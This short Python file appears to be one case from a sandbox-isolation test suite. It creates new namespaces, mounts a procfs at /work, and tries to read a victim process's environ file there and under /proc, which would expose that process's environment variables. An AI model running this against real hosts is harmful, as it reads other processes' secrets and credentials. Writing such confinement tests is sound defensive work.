# SPDX-License-Identifier: Apache-2.0
"""In namespaces of one's own, mount a procfs of the host's processes.

class: D4
effect: the victim's environment is read
weak: seccomp landlock
always: a procfs shows its mounter's PID namespace
"""
print(sysc("unshare", 0x10020000))
print(libc.mount(b"proc", b"/work", b"proc", 0, None))
for where in ("/work", "/proc"):
    attempt(read_file, f"{where}/{T['victim']}/environ", 65536)
